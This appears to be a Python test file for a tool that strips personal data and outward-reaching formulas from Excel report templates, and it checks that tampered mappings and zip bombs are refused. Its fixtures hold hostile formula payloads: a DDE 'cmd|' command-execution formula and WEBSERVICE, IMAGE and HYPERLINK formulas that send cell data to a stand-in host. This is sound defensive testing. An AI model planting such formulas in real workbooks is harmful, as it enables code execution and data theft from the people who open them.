"""Workbooks made by a stranger, or left full by the last one: nobody stays in what is learnt, nothing in it reaches out, and a crafted mapping does no harm."""

from __future__ import annotations

import html
import io
import json
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import office_books
import openpyxl
import pytest
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import Font
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.table import Table, TableColumn, TableFormula

from xieli_tui.errors import XieliError
from xieli_tui.paper import refill, report_map, workbook_clean
from xieli_tui.paper.report_guess import guess
from xieli_tui.paper.report_map import ReportMap

ID, NAME, CLERK, PHONE = "999999195103070425", "赵某某", "张三丰", "10000002190"
SEGMENTS = "9999 9919 5103 0704 25"
EVIL = ("=cmd|' /C calc'!A0", '=WEBSERVICE("http://e.invalid/?"&C3)', "=[1]Sheet1!A1", '=HYPERLINK("http://e.invalid/"&C3,"x")', "='C:\\x\\[b.xlsx]月报'!A1", '=IMAGE("http://e.invalid/"&C3)', "=_xlfn.WEBSERVICE(C3)")
HARMLESS = ("=COUNTA(B3:B9)", "=SUM(D3:D9)*10", '=IF(D3="a|b",1,2)', "=表1[[#This Row],[人口]]*2", "='上 报'!A1", '=TEXT(A1,"[$-804]yyyy")')
DOORS = ("e.invalid", "cmd|", "[1]", "calc'!")


def full() -> bytes:
    """Last month's report, sent round as the 'empty' form."""
    book = openpyxl.Workbook()
    page = book.active
    page.title = "月报"
    page["A1"] = f"困难群众月报 {ID}"
    for at, text in enumerate(("序号", "姓名", "身份证号", "家庭住址", "联系电话"), 1):
        page.cell(2, at).value = text
    page["B2"].comment = Comment(f"按身份证填，例如 {ID}", CLERK)
    for row in range(3, 9):
        for at, text in enumerate((row - 2, NAME, SEGMENTS if row % 2 else ID, "石桥村", PHONE), 1):
            page.cell(row, at).value = text
    page["D5"] = "单位宿舍3号"  # reads like the first word of a foot
    page["B4"].comment = Comment(f"{NAME}有肺癌", CLERK)
    page["B4"].hyperlink = f"http://e.invalid/{ID}"
    page["A10"], page["B10"], page["D10"], page["A11"] = "合计", "=COUNTA(B3:B8)", "一户一行", f"填表人：李小四 {ID}"
    for at, formula in enumerate(EVIL, 1):
        page.cell(12, at).value = formula
    page["H3"] = EVIL[1]
    page.auto_filter.ref = "A2:E8"
    page.auto_filter.add_filter_column(1, [NAME])
    page.oddFooter.center.text = ID
    for rule, area in ((f'"{NAME},{CLERK}"', "B3:B8"), ('"男,女"', "F3:F8"), (f'"{ID}"', "G3:G8")):
        choices = DataValidation(type="list", formula1=rule)
        choices.add(area)
        page.add_data_validation(choices)
    chart = BarChart()
    chart.add_data(Reference(page, min_col=1, min_row=3, max_row=8))
    chart.set_categories(Reference(page, min_col=2, min_row=3, max_row=8))
    page.add_chart(chart, "J2")
    hidden, codes, words, spoken, villages = (book.create_sheet(title) for title in ("上月", "字典", "填表说明", "参数", "一村"))
    hidden.sheet_state, spoken.sheet_state = "hidden", "veryHidden"
    for sheet in (hidden, spoken, villages):
        for row in (("序号", "姓名", "身份证号", "联系电话"), (1, NAME, ID, PHONE), (2, NAME, None, None)):
            sheet.append(row)
        sheet["F9"] = "甲"
    page["F10"] = "=参数!F9"
    for row in (("性别", "救助类别", "与户主关系"), ("男", "低保", "配偶")):
        codes.append(row)
    for row in (("姓名", "按身份证填"), ("身份证号", f"例如 {ID}")):
        words.append(row)
    outside = DataValidation(type="custom", formula1="cmd|'/C calc'!A0")
    outside.add("E3:E8")
    page.add_data_validation(outside)
    listed = Table(displayName="清单", ref="J20:K21", tableColumns=[
        TableColumn(id=1, name="甲"), TableColumn(id=2, name="乙", calculatedColumnFormula=TableFormula(attr_text='WEBSERVICE("http://e.invalid/")')),
    ])
    page["J20"], page["K20"], page["J21"], page["K21"] = "甲", "乙", "子", "丑"
    page.add_table(listed)
    page.conditional_formatting.add("B3:B8", FormulaRule(formula=[f'$B3="{NAME}"'], font=Font(bold=True)))
    page.conditional_formatting.add("B3:B8", FormulaRule(formula=['$E3=""'], font=Font(bold=True)))
    codes["F1"], codes["F2"], codes["F3"] = f"联系 {NAME} 补材料", "赵某", "赵某庄"
    page["B9"], page["A9"], page["C9"] = "赵某", 7, ID
    book.defined_names["谁"] = DefinedName("谁", attr_text=f'"{ID}"')
    book.defined_names["坏"] = DefinedName("坏", attr_text=EVIL[0][1:])
    book.properties.creator = book.properties.lastModifiedBy = CLERK
    book.properties.description = ID
    out = io.BytesIO()
    book.save(out)
    return with_cache(out.getvalue())


def with_cache(data: bytes) -> bytes:
    """As Excel writes it: a chart keeps what its cells said."""
    kept = f'<cat><strRef><f>\\1</f><strCache><ptCount val="1"/><pt idx="0"><v>{NAME}</v></pt></strCache></strRef></cat>'.encode()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            part = old.read(name)
            new.writestr(name, re.sub(rb"<cat><numRef><f>([^<]*)</f></numRef></cat>", kept, part) if name.startswith("xl/charts/") else part)
    return out.getvalue()


def parts(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: html.unescape(archive.read(name).decode("utf-8", "replace")) for name in archive.namelist()}


def where(data: bytes, *words: str) -> list[tuple[str, str]]:
    return [(name, word) for name, text in parts(data).items() for word in words if word in text]


@pytest.fixture(scope="module")
def learnt() -> ReportMap:
    data = full()
    found, *_ = guess(refill.layouts(data))
    assert (found.sheet, found.first) == ("月报", 3)
    assert found.last >= 8, "a dwelling that begins with 单位 is no foot"
    return ReportMap("月报", found.sheet, found.head_rows, found.first, found.last, found.unit, found.columns, refill.emptied(data, [found.map]))


def test_in_a_report_that_was_learnt_nobody_is_left_anywhere_and_the_words_of_the_office_are(learnt: ReportMap) -> None:
    data = full()
    for word in (ID, SEGMENTS, NAME, CLERK, PHONE):
        assert where(data, word), "the trap is set"
    assert where(learnt.workbook, ID, SEGMENTS, NAME, CLERK, PHONE, "肺癌", ID[6:14], ID[-4:]) == []
    for word in ("姓名", "身份证号", "合计", "COUNTA(B3:B8)", "填表人：李小四", "按身份证填", "性别", "与户主关系", "男,女", "困难群众月报"):
        assert where(learnt.workbook, word), word
    book = openpyxl.load_workbook(io.BytesIO(learnt.workbook))
    assert book.sheetnames == ["月报", "字典", "填表说明", "参数", "一村"], "a hidden sheet that nothing speaks of does not travel"
    assert book["参数"]["F9"].value == "甲"
    assert [book["字典"][place].value for place in ("F1", "F2", "F3")] == ["联系 *** 补材料", "**", "赵某庄"], "the names of the rows that went stand nowhere else; a place is a place"
    assert [rule.formula for area in book["月报"].conditional_formatting for rule in area.rules] == [['$E3=""']]


def test_nothing_in_it_reaches_a_program_a_file_or_the_network_and_what_went_is_told(learnt: ReportMap) -> None:
    data = full()
    assert where(data, *DOORS), "the trap is set"
    assert where(learnt.workbook, *DOORS) == []
    assert {"连到外面的公式", "连到外面的链接"} <= set(refill.lost(data))
    crafted = replace(learnt, workbook=data)  # as a stranger's mapping would bring it
    done = refill.refill(crafted, [refill.Row({1: "=1+1", 2: ID})])
    assert where(done, *DOORS) == []


@pytest.mark.parametrize("formula", EVIL)
def test_a_formula_that_reaches_out_is_known(formula: str) -> None:
    assert workbook_clean.outward(formula)


@pytest.mark.parametrize("formula", HARMLESS)
def test_an_offices_own_formula_is_let_be(formula: str) -> None:
    assert not workbook_clean.outward(formula)


def test_one_cell_far_out_and_a_workbook_that_unfolds_without_end_cost_nothing(learnt: ReportMap, tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    for at, text in enumerate(("序号", "姓名", "身份证号"), 1):
        book.active.cell(1, at).value = text
    book.active.cell(1_048_576, 16_384).number_format = "@"
    book.active.cell(15_000, 16_000).number_format = "@"
    out = io.BytesIO()
    book.save(out)
    found, *_ = guess(refill.layouts(out.getvalue()))
    assert len(refill.emptied(out.getvalue(), [found.map])) < 100_000
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", b" " * (refill.MAX_UNPACKED + 1))
    for bad in (bomb.getvalue(), b"PK\x03\x04", b""):
        with pytest.raises(XieliError) as caught:
            refill.refill(replace(learnt, workbook=bad), [])
        assert caught.value.code in ("XL-W02", "XL-W04")


def test_a_mapping_that_writes_far_out_or_twice_into_a_column_is_refused_whole(learnt: ReportMap) -> None:
    raw = json.loads(learnt.to_bytes())
    assert report_map.read(json.dumps(raw).encode()) == learnt
    for change in (
        {"columns": [[20_000, "x", "name", "text"]]}, {"columns": [[0, "x", "name", "text"], [0, "y", "head", "text"]]}, {"columns": [[-1, "x", "name", "text"]]},
        {"first": 1_000_000, "last": 1_000_000}, {"sheet": 3}, {"columns": [[0, "x", "name"]]}, {"head_rows": [1]}, {"name": "x" * 201}, {"name": "月\x1b[31m报"},
    ):
        with pytest.raises(XieliError) as caught:
            report_map.read(json.dumps(raw | change).encode())
        assert caught.value.code == "XL-W05", change
    chart = openpyxl.Workbook()
    chart.create_chartsheet("月报")
    out = io.BytesIO()
    chart.save(out)
    with pytest.raises(XieliError):
        refill.refill(replace(learnt, workbook=out.getvalue()), [])


def test_whatever_an_office_sends_round_nobody_of_it_is_kept() -> None:
    """Sixteen of them here, a thousand by `python tests/paper/office_books.py 1000`."""
    assert list(office_books.leaks(range(16))) == []
    assert any(office_books.book_of(seed)[1] for seed in range(16))
